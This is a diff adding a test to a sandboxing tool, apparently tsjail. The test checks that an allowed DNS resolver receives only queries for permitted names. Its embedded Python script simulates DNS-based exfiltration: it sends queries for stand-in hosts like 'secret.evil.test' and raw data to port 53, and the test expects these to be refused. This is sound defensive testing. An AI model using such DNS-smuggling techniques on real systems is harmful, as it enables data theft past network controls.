@@ -228,6 +228,42 @@ for host in ('127.0.0.2', '127.0.0.3'):
   assert.equal(reached.refusedUdp, 0);
 });
 
+test('DNS: an allowed resolver is asked only for names the rules allow; other questions and other data to port 53 are refused', async () => {
+  // A resolver on 127.0.0.2:53 (port 53 needs root: the test runs as root) that records each question.
+  const questions: string[] = [];
+  const dns = createSocket('udp4').on('message', (m) => questions.push(dnsQueryName(m) ?? 'not a query'));
+  await new Promise<void>((resolve) => dns.bind(53, '127.0.0.2', () => resolve()));
+  const script = `
+import socket, struct
+def query(name):
+    return struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0\\0\\1\\0\\1'
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+c.connect(('127.0.0.2', 53))
+for what, send in (('good sendto', lambda: s.sendto(query('pkg.good.test'), ('127.0.0.2', 53))),
+                   ('evil sendto', lambda: s.sendto(query('secret.evil.test'), ('127.0.0.2', 53))),
+                   ('evil sendmsg', lambda: c.sendmsg([query('x.evil.test')])),
+                   ('raw sendto', lambda: s.sendto(b'not dns at all, just data', ('127.0.0.2', 53)))):
+    try:
+        send(); print(what, 'sent')
+    except OSError as e:
+        print(what, e.strerror)
+`;
+  try {
+    const r = await tsjail(['--allow-net', '127.0.0.2:53/udp', '--allow-net', '*.good.test:443', '--', PY, '-c', script]);
+    assert.equal(r.stdout, 'good sendto sent\nevil sendto Operation not permitted\nevil sendmsg Operation not permitted\nraw sendto Operation not permitted\n', r.stderr);
+    assert.match(r.stderr, /sendto\(DNS query for secret\.evil\.test to 127\.0\.0\.2:53\/udp\) -> EPERM\n {8}decided by: network rules \([^)]*\): no rule names secret\.evil\.test\n {8}to allow exactly this: --allow-net secret\.evil\.test/);
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    assert.deepEqual(questions, ['pkg.good.test']);
+    // Rules without names: the resolver is a destination like any (nothing to check a question against).
+    questions.length = 0;
+    const plain = await tsjail(['--allow-net', '127.0.0.2:53/udp', '--', PY, '-c', script]);
+    assert.match(plain.stdout, /^good sendto sent\nevil sendto sent\n/, plain.stderr);
+  } finally {
+    dns.close();
+  }
+});
+
 test('--net loopback: the host\'s loopback only; --net none: a network of its own', async () => {
   const r = await tsjail(['--net', 'loopback', '--', 'sh', '-c', `curl -sS http://127.0.0.3:${PORT}/; curl -sS --connect-timeout 5 http://192.0.2.1/; echo curl=$?`], true);
   assert.match(r.stdout, /^hello from 127\.0\.0\.3\ncurl=7\n$/, r.stderr);
